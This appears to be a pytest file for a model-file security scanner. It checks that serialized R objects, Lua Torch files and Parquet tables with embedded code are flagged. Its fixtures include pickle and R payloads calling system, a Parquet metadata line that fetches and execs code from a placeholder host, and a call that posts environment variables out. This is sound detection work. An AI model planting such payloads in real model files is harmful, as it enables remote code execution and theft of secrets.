"""Objects of R and Lua Torch, Parquet tables and parameters of MXNet: what they call."""

import gzip
import struct

import pytest

from fixtures.make.serialized import (
    FEATURES,
    bytecode,
    call,
    closure,
    linear,
    parquet,
    promise,
    rdata,
    rds,
    schema,
    symbol,
    texts,
    torch7,
)
from modelscan_plus.core.coverage import CoverageState
from modelscan_plus.core.finding import Severity
from tests.samples import inspect

SYSTEM = call("system", texts("echo"))
PICKLE = b"\x80\x02cos\nsystem\nX\x04\x00\x00\x00echo\x85R."
# byte code keeps a call as: its type, no tag, the head, then the rest of the list
COMPILED = struct.pack(">i", 6) + struct.pack(">i", 254) + struct.pack(">i", 1) + symbol("system")
COMPILED += struct.pack(">ii", 2, 254) + struct.pack(">i", 16) + texts("echo") + struct.pack(">ii", 254, 254)


def _high(data: bytes, name: str) -> bool:
    return any(found.severity.rank >= Severity.HIGH.rank for found in inspect(data, name).findings)


@pytest.mark.parametrize(
    ("data", "high"),
    [
        (linear(), False),
        (gzip.compress(linear()), False),
        (rds(closure(call("exp", symbol("eta")))), False),
        (rds(closure(call("system.file", texts("x")))), False),
        (rds(closure(call("eval", call("parse", texts("y ~ x"))))), False),
        (rds(closure(call("download.file", texts("https://zenodo.org/x"), texts("x")))), False),
        (rds(closure(call("do.call", texts("rbind")))), False),
        (rds(closure(call("~", symbol("y"), symbol("system")))), False),
        (rds(closure(call("do.call", texts("system"), call("list", texts("echo"))))), True),
        (rds(closure(call("lapply", texts("echo"), symbol("system")))), True),
        (rds(closure(call("eval", call("parse", texts("system('echo')"))))), True),
        (rds(closure(call("cat", texts("x", "~/.Rprofile")))), True),
        (rds(closure(call("POST", texts("https://x.example"), call("Sys.getenv")))), True),
        (rds(closure(call(call("::", symbol("processx"), symbol("run")), texts("sh")))), True),
        (rds(closure(call("run", texts("model")))), False),
        (rds(closure(SYSTEM)), True),
        (gzip.compress(rds(closure(SYSTEM))), True),
        (rdata("predict.model", closure(SYSTEM)), True),
        (rds(closure(call(call("::", symbol("base"), symbol("system2")), texts("echo")))), True),
        (rds(closure(call("source", texts("https://x.example/p.R")))), True),
        (rds(closure(call("eval", call("parse", call("url", texts("https://x.example/p.R")))))), True),
        (rds(closure(call("download.file", texts("http://203.0.113.9/x"), texts("x")))), True),
        (rds(closure(call("{", call("invisible", SYSTEM)))), True),
        (rds(closure(bytecode(COMPILED))), True),
        (rds(promise(call("print", texts("x")))), True),
        (rds(struct.pack(">ii", 19, 1) + promise(SYSTEM)), True),
    ],
)
def test_objects_of_r(data: bytes, high: bool) -> None:
    result = inspect(data, "model.rds")
    assert result.coverage.state is CoverageState.ANALYSED
    assert any(found.severity.rank >= Severity.HIGH.rank for found in result.findings) is high


@pytest.mark.parametrize(
    "data",
    [
        linear()[:-9],
        rds(struct.pack(">ii", 19, 1 << 30)),
        rds(struct.pack(">i", 77)),
        rds(struct.pack(">ii", 19, 1) * 5000),
        torch7(b"\x1bLJ", ends=False),
        struct.pack("<iiiii", 3, 1, 2, 2, 5) + b"abcde" + struct.pack("<ii", 2, -7),
    ],
)
def test_what_ends_early_is_a_gap(data: bytes) -> None:
    result = inspect(data, "model.rds")
    assert result.coverage.executable_gap


def test_functions_of_lua() -> None:
    assert not _high(torch7(), "net.t7")
    assert not _high(torch7(b"\x1bLJ\x02\x0a\0forward\0cmul"), "net.t7")
    assert not _high(torch7(b"\x1bLua\x51\0os\0clock\0"), "net.t7")
    assert _high(torch7(b"\x1bLJ\x02\x0a\0open\0io\0"), "net.t7")
    assert _high(torch7(b"\x1bLua\x51\0io\0popen\0"), "net.t7")


@pytest.mark.parametrize(
    ("notes", "columns", "high"),
    [
        ((FEATURES, schema(b"arrow.fixed_shape_tensor")), b"", False),
        ((schema(b"arrow.py_extension_type"),), b"", True),
        (((b"loader", b"exec(__import__('urllib.request').request.urlopen('https://x.example').read())"),), b"", True),
        (((b"loader", b"written by exec of pandas"),), b"", False),
        ((FEATURES,), b"\0\0" + PICKLE, True),
        ((FEATURES,), b"import os\nos.system('ls')\n", False),
    ],
)
def test_tables(notes: tuple[tuple[bytes, bytes], ...], columns: bytes, high: bool) -> None:
    result = inspect(parquet(*notes, columns=columns), "train.parquet")
    assert result.coverage.state is CoverageState.ANALYSED
    assert any(found.severity.rank >= Severity.HIGH.rank for found in result.findings) is high


def test_parameters_of_mxnet_are_no_gap() -> None:
    """Its loader takes nothing but numbers from the file."""
    data = struct.pack("<QQQ", 0x112, 0, 0) + struct.pack("<Q", 0)
    assert not inspect(data, "model-0000.params").coverage.executable_gap
    assert inspect(b"\x13" + data[1:], "model-0000.params").coverage.executable_gap
